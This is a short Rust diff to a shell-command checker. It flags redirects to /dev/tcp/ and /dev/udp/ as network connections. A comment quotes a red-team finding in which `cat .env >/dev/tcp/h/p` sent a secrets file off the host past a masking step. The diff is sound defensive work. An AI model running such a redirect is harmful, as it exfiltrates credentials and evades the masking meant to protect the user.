@@ -724,7 +724,8 @@ impl Walker<'_> {
     fn redirect_path(&mut self, p: &str) {
         // bash opens a connection for these names (red-team round 42: `cat .env >/dev/tcp/h/p`
         // sent a file off the host, where masking never sees it).
-        if normalise(p).starts_with("/dev/tcp/") || normalise(p).starts_with("/dev/udp/") {
+        let target = normalise(p);
+        if ["/dev/tcp/", "/dev/udp/"].iter().any(|d| target.starts_with(d)) {
             self.r.unreadable(format!("{p} opens a network connection"));
         }
         self.program_dir_write(p);
